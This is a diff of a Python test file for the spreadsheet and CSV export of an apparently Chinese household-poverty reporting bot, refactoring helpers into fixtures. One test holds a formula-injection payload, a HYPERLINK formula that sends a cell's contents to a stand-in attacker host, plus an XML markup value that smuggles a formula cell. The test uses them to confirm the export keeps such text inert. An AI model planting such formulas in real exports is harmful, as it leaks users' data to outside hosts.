@@ -6,8 +6,6 @@ Every test taking `db` runs on SQLite and on PostgreSQL.
 from __future__ import annotations
 
 import csv
-import itertools
-import subprocess
 import time
 import zipfile
 from datetime import UTC, date, datetime, timedelta
@@ -17,7 +15,7 @@ from xml.etree import ElementTree
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import insert, select, update
+from sqlalchemy import insert, select
 
 from dialogs.engine import format_value
 from dialogs.spec import load_catalog
@@ -29,15 +27,14 @@ from review.export import (
     history_csv_path,
 )
 from storage.database import open_database
-from storage.models import StatusChange, Submission
-from storage.repository import NewSubmission, SubmissionStore
-from tests.dialog_script import REPORT_ANSWERS
-from tests.test_cli import run_bot as run_cli
+from storage.models import AuditEntry, StatusChange, Submission
+from tests.chat import run_bot
+from tests.conftest import store_submission
+from tests.dialog_script import REPORT_ANSWERS, VISIT_ANSWERS
 
 ROOT = Path(__file__).resolve().parent.parent
 CATALOG = load_catalog()
 EVERYTHING = Scope(everything=True)
-_drafts = itertools.count(1)
 
 FIXED_HEADERS = [
     "编号",
@@ -59,89 +56,10 @@ FIXED_HEADERS = [
 SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 HISTORY_HEADERS = ["编号", "时间", "操作人", "原状态", "新状态", "备注"]
 
-VISIT_ANSWERS = {
-    "consent": True,
-    "head_name": "李四",
-    "township": "狸桥镇",
-    "village": "东风村",
-    "household_size": 3,
-    "annual_income": 18000,
-    "medical_expense": 20000,
-    "education_expense": 0,
-    "other_expense": 0,
-    "causes": ["因病"],
-    "child_out_of_school": False,
-    "no_medical_insurance": False,
-    "unsafe_housing": False,
-    "unsafe_water": True,
-    "current_status": "已是监测对象",
-    "assistance_effect": "已落实，效果不明显",
-    "assistance_note": "需要加强就业帮扶",
-    "risk_eliminated": True,
-    "risk_stable": "不稳定，有返贫风险",
-    "major_risks": ["季节性缺水"],
-    "data_quality": "需要更正",
-    "data_corrections": ["收入支出"],
-    "data_correction_note": "2024年务工收入未录入",
-    "new_dibao_or_tekun": False,
-    "no_labor": False,
-    "contact_name": "李四",
-    "phone": "0563-2701280",
-    "visit_note": None,
-}
-
 
 def local(year: int, month: int, day: int, hour: int = 12, minute: int = 0) -> datetime:
     """A moment given in 北京时间, as the UTC value the database stores."""
     return datetime(year, month, day, hour, minute, tzinfo=LOCAL_TZ).astimezone(UTC)
-
-
-def submit(
-    db,
-    township: str | None,
-    *,
-    dialog: str = "report",
-    answers: dict | None = None,
-    created: datetime | None = None,
-    submitted_by: int = 100,
-    contact_name: str | None = "张三",
-    status: str | None = None,
-    assigned_to: int | None = None,
-) -> str:
-    answers = dict(answers if answers is not None else REPORT_ANSWERS)
-    answers["township"] = township
-    reference, created_now = SubmissionStore(db).submit(
-        NewSubmission(
-            dialog=dialog,
-            draft_id=f"x{next(_drafts):08d}",
-            submitted_by=submitted_by,
-            answers=answers,
-            township=township,
-            village=answers.get("village"),
-            contact_name=contact_name,
-            phone=answers.get("phone"),
-            household_size=answers.get("household_size"),
-            annual_income=answers.get("annual_income"),
-            per_capita_income=(answers.get("annual_income") or 0)
-            // (answers.get("household_size") or 1),
-            priority="高",
-            priority_reasons=["人均纯收入低于监测线", "住房安全有隐患"],
-        )
-    )
-    assert created_now
-    changes: dict[str, Any] = {}
-    if created is not None:
-        changes.update(created_at=created, updated_at=created)
-    if status is not None:
-        changes["status"] = status
-    if assigned_to is not None:
-        changes["assigned_to"] = assigned_to
-    if changes:
-        with db.session() as session:
-            session.execute(
-                update(Submission).where(Submission.reference == reference).values(**changes)
-            )
-    return reference
 
 
 def change_status(
@@ -223,17 +141,12 @@ def export(
 # --- what is exported, and that it is what the database holds --------------------------------
 
 
-def test_a_reviewer_exports_only_their_townships_and_reads_the_same_data_back(db, tmp_path):
-    shuiyang = submit(db, "水阳镇", created=local(2024, 6, 3, 9, 15), assigned_to=8_123_456_789)
-    liqiao = submit(
-        db,
-        "狸桥镇",
-        dialog="visit",
-        answers=VISIT_ANSWERS,
-        contact_name="李四",
-        created=local(2024, 6, 4, 16, 40),
-    )
-    elsewhere = submit(db, "孙埠镇", created=local(2024, 6, 5))
+def test_a_reviewer_exports_only_their_townships_and_reads_the_same_data_back(
+    db, tmp_path, make_submission
+):
+    shuiyang = make_submission(created_at=local(2024, 6, 3, 9, 15), assigned_to=8_123_456_789)
+    liqiao = make_submission(dialog="visit", created_at=local(2024, 6, 4, 16, 40))
+    elsewhere = make_submission(township="孙埠镇", created_at=local(2024, 6, 5))
     change_status(db, liqiao, "核实中", local(2024, 6, 6, 8, 0), note="已电话联系")
     change_status(db, shuiyang, "核实中", local(2024, 6, 7, 10, 0), note="安排入户")
     change_status(db, elsewhere, "核实中", local(2024, 6, 7, 11, 0), note="其他乡镇，不应导出")
@@ -280,7 +193,7 @@ def test_a_reviewer_exports_only_their_townships_and_reads_the_same_data_back(db
         assert row["家庭年纯收入（元）"] == submission.annual_income
         assert row["人均纯收入（元）"] == submission.per_capita_income
         assert row["优先级"] == submission.priority
-        assert row["优先级理由"] == "人均纯收入低于监测线；住房安全有隐患"
+        assert row["优先级理由"] == "；".join(submission.priority_reasons)
         assert row["状态"] == submission.status
         for key, value in submission.answers.items():
             if key in {
@@ -323,8 +236,10 @@ def test_a_reviewer_exports_only_their_townships_and_reads_the_same_data_back(db
     assert "其他乡镇，不应导出" not in {h["备注"] for h in history}
 
 
-def test_the_workbook_has_a_bold_frozen_header_and_readable_column_widths(db, tmp_path):
-    submit(db, "水阳镇")
+def test_the_workbook_has_a_bold_frozen_header_and_readable_column_widths(
+    db, tmp_path, make_submission
+):
+    make_submission()
     out, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
     book = load_workbook(out)
     sheet = book["申报记录"]
@@ -336,12 +251,12 @@ def test_the_workbook_has_a_bold_frozen_header_and_readable_column_widths(db, tm
     assert sheet["C2"].number_format == "yyyy-mm-dd hh:mm"
 
 
-def test_township_and_local_date_range_narrow_the_export(db, tmp_path):
-    just_before = submit(db, "水阳镇", created=local(2024, 5, 31, 23, 50))
-    first_minute = submit(db, "水阳镇", created=local(2024, 6, 1, 0, 30))  # 2024-05-31 in UTC
-    other_township = submit(db, "水东镇", created=local(2024, 6, 10))
-    last_minute = submit(db, "水阳镇", created=local(2024, 6, 30, 23, 59))
-    next_month = submit(db, "水阳镇", created=local(2024, 7, 1, 0, 0))
+def test_township_and_local_date_range_narrow_the_export(db, tmp_path, make_submission):
+    just_before = make_submission(created_at=local(2024, 5, 31, 23, 50))
+    first_minute = make_submission(created_at=local(2024, 6, 1, 0, 30))  # 2024-05-31 in UTC
+    other_township = make_submission(township="水东镇", created_at=local(2024, 6, 10))
+    last_minute = make_submission(created_at=local(2024, 6, 30, 23, 59))
+    next_month = make_submission(created_at=local(2024, 7, 1, 0, 0))
 
     june = ExportFilter(EVERYTHING, since=date(2024, 6, 1), until=date(2024, 6, 30))
     out, count = export(db, tmp_path, june, name="june")
@@ -372,9 +287,11 @@ def test_township_and_local_date_range_narrow_the_export(db, tmp_path):
     assert len(read_xlsx(out)["申报记录"]) == 1  # the header only
 
 
-def test_a_cadre_exports_the_households_they_recorded_and_a_stranger_nothing(db, tmp_path):
-    mine = submit(db, "狸桥镇", dialog="visit", answers=VISIT_ANSWERS, submitted_by=555)
-    theirs = submit(db, "狸桥镇", dialog="visit", answers=VISIT_ANSWERS, submitted_by=556)
+def test_a_cadre_exports_the_households_they_recorded_and_a_stranger_nothing(
+    db, tmp_path, make_submission
+):
+    mine = make_submission(dialog="visit", submitted_by=555)
+    theirs = make_submission(dialog="visit", submitted_by=556)
     change_status(db, theirs, "核实中", local(2024, 6, 6))
 
     out, count = export(db, tmp_path, ExportFilter(Scope(recorded_by=555)), name="cadre")
@@ -388,9 +305,11 @@ def test_a_cadre_exports_the_households_they_recorded_and_a_stranger_nothing(db,
     assert len(read_xlsx(out)["申报记录"]) == 1  # the header only
 
 
-def test_the_csv_export_opens_in_excel_and_says_what_the_workbook_says(db, tmp_path):
-    first = submit(db, "水阳镇", created=local(2024, 6, 3, 9, 15))
-    second = submit(db, "狸桥镇", dialog="visit", answers=VISIT_ANSWERS, created=local(2024, 6, 4))
+def test_the_csv_export_opens_in_excel_and_says_what_the_workbook_says(
+    db, tmp_path, make_submission
+):
+    first = make_submission(created_at=local(2024, 6, 3, 9, 15))
+    second = make_submission(dialog="visit", created_at=local(2024, 6, 4))
     change_status(db, first, "核实中", local(2024, 6, 5, 10, 0), note="已联系，本周入户")
     change_status(db, second, "不予纳入", local(2024, 6, 6, 10, 0), note="收入高于监测线")
 
@@ -433,18 +352,14 @@ def test_the_csv_export_opens_in_excel_and_says_what_the_workbook_says(db, tmp_p
     ]
 
 
-def test_text_that_looks_like_a_formula_stays_text(db, tmp_path):
+def test_text_that_looks_like_a_formula_stays_text(db, tmp_path, make_submission):
     attack = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")'
-    answers = dict(REPORT_ANSWERS, description="+86 电话联系；@村委会", causes_other="-1+1")
-    reference = submit(db, "水阳镇", answers=answers, contact_name=attack)
+    answers = {"description": "+86 电话联系；@村委会", "causes_other": "-1+1"}
+    reference = make_submission(answers=answers, contact_name=attack)
     change_status(db, reference, "核实中", local(2024, 6, 5), note="=1+1")
-    markup = submit(
-        db,
-        "水阳镇",
+    markup = make_submission(
         contact_name="<r>李</r>",
-        answers=dict(
-            REPORT_ANSWERS, description='<r><t>x</t></r></is></c><c r="A9"><f>1+1</f></c><is><r>'
-        ),
+        answers={"description": '<r><t>x</t></r></is></c><c r="A9"><f>1+1</f></c><is><r>'},
     )
 
     xlsx, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
@@ -542,8 +457,8 @@ def test_ten_thousand_rows_stream_out_with_progress(db, tmp_path):
     assert elapsed < 15, f"exporting {total} rows took {elapsed:.1f} s"
 
 
-def test_a_failed_export_leaves_no_file_behind(db, tmp_path):
-    submit(db, "水阳镇")
+def test_a_failed_export_leaves_no_file_behind(db, tmp_path, make_submission):
+    make_submission()
 
     def interrupted(_done: int) -> None:
         raise KeyboardInterrupt
@@ -562,20 +477,27 @@ def test_a_failed_export_leaves_no_file_behind(db, tmp_path):
 # --- the command line ---------------------------------------------------------------------------
 
 
-def run_bot(*args: str, database_url: str) -> subprocess.CompletedProcess:
-    return run_cli(*args, env={"DATABASE_URL": database_url})
-
-
-def test_the_operator_exports_from_the_command_line(tmp_path):
+@pytest.fixture
+def server(tmp_path) -> tuple[str, list[str]]:
+    """The SQLite database the operator exports from (its URL), and its three households: in
+    水阳镇 in June and July, and in 狸桥镇 in June."""
     url = f"sqlite:///{tmp_path / 'server.db'}"
     db = open_database(url)
-    wanted = submit(db, "水阳镇", created=local(2024, 6, 3))
-    submit(db, "水阳镇", created=local(2024, 7, 3))
-    submit(db, "狸桥镇", created=local(2024, 6, 3))
+    references = [
+        store_submission(db, created_at=local(2024, 6, 3)),
+        store_submission(db, created_at=local(2024, 7, 3)),
+        store_submission(db, township="狸桥镇", created_at=local(2024, 6, 3)),
+    ]
     db.engine.dispose()
+    return url, references
 
+
+def test_the_operator_exports_one_township_and_month_from_the_command_line(
+    tmp_path, server, bot_cli
+):
+    url, (shuiyang_in_june, _, _) = server
     out = tmp_path / "水阳镇六月.xlsx"
-    result = run_bot(
+    result = bot_cli(
         "export",
         "--format",
         "xlsx",
@@ -587,26 +509,36 @@ def test_the_operator_exports_from_the_command_line(tmp_path):
         "2024-06-01",
         "--until",
         "2024-06-30",
-        database_url=url,
+        env={"DATABASE_URL": url},
     )
     assert result.returncode == 0, result.stderr
     assert result.stdout.strip() == f"已导出 1 条记录到 {out}"
     assert "Traceback" not in result.stderr
-    assert [r["编号"] for r in as_dicts(read_xlsx(out)["申报记录"])] == [wanted]
+    assert [r["编号"] for r in as_dicts(read_xlsx(out)["申报记录"])] == [shuiyang_in_june]
 
+
+def test_the_operator_exports_everything_to_csv_and_the_export_is_audited(
+    tmp_path, server, bot_cli
+):
+    url, _ = server
     out = tmp_path / "全部.csv"
-    result = run_bot("export", "--format", "csv", "--out", str(out), database_url=url)
+    result = bot_cli("export", "--format", "csv", "--out", str(out), env={"DATABASE_URL": url})
     assert result.returncode == 0, result.stderr
     assert result.stdout.strip() == f"已导出 3 条记录到 {out}"
     assert out.read_bytes().startswith(b"\xef\xbb\xbf") and history_csv_path(out).exists()
+    db = open_database(url)
+    with db.session() as session:
+        (entry,) = session.scalars(select(AuditEntry)).all()
+    db.engine.dispose()
+    assert entry.action == "export" and str(out) in (entry.detail or "")
 
 
 @pytest.mark.parametrize(
     ("option", "value"), [("--since", "2024-13-01"), ("--until", "昨天"), ("--since", "2024/06/01")]
 )
-def test_a_bad_date_gets_one_chinese_line_naming_the_option(tmp_path, option, value):
+def test_a_bad_date_gets_one_chinese_line_naming_the_option(tmp_path, bot_cli, option, value):
     out = tmp_path / "x.xlsx"
-    result = run_bot(
+    result = bot_cli(
         "export",
         "--format",
         "xlsx",
@@ -614,18 +546,18 @@ def test_a_bad_date_gets_one_chinese_line_naming_the_option(tmp_path, option, va
         str(out),
         option,
         value,
-        database_url=f"sqlite:///{tmp_path / 'server.db'}",
+        env={"DATABASE_URL": f"sqlite:///{tmp_path / 'server.db'}"},
     )
     assert result.returncode == 2
     message = result.stderr.strip()
     assert "\n" not in message and "Traceback" not in message
     assert option in message and value in message and "日期" in message
-    assert not out.exists()
+    assert sorted(p.name for p in tmp_path.iterdir()) == [], "no file, not even the database"
 
 
-def test_dates_in_the_wrong_order_or_a_missing_folder_are_refused_in_one_line(tmp_path):
-    url = f"sqlite:///{tmp_path / 'server.db'}"
-    backwards = run_bot(
+def test_dates_in_the_wrong_order_or_a_missing_folder_are_refused_in_one_line(tmp_path, bot_cli):
+    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'server.db'}"}
+    backwards = bot_cli(
         "export",
         "--format",
         "csv",
@@ -635,12 +567,34 @@ def test_dates_in_the_wrong_order_or_a_missing_folder_are_refused_in_one_line(tm
         "2024-07-01",
         "--until",
         "2024-06-01",
-        database_url=url,
+        env=env,
     )
-    nowhere = run_bot(
-        "export", "--format", "csv", "--out", str(tmp_path / "no" / "x.csv"), database_url=url
-    )
+    nowhere = bot_cli("export", "--format", "csv", "--out", str(tmp_path / "no" / "x.csv"), env=env)
     for result, option in ((backwards, "--since"), (nowhere, "--out")):
         assert result.returncode == 2
         assert option in result.stderr and "\n" not in result.stderr.strip()
     assert sorted(p.name for p in tmp_path.iterdir()) == []
+
+
+def test_an_operator_who_forgets_the_output_file_is_told_it_is_required(tmp_path, bot_cli):
+    result = bot_cli("export", "--format", "xlsx")
+    assert result.returncode == 2
+    assert "--out" in result.stderr and "Traceback" not in result.stderr
+
+
+def test_a_refused_export_exits_with_status_2_from_the_real_command(tmp_path):
+    """The exit status a shell script sees is the one `bot.main` returns (run as a process)."""
+    out = tmp_path / "x.xlsx"
+    result = run_bot(
+        "export",
+        "--format",
+        "xlsx",
+        "--out",
+        str(out),
+        "--until",
+        "昨天",
+        env={"DATABASE_URL": f"sqlite:///{tmp_path / 'server.db'}"},
+    )
+    assert result.returncode == 2
+    assert result.stderr.strip().count("\n") == 0 and "--until" in result.stderr
+    assert not out.exists()
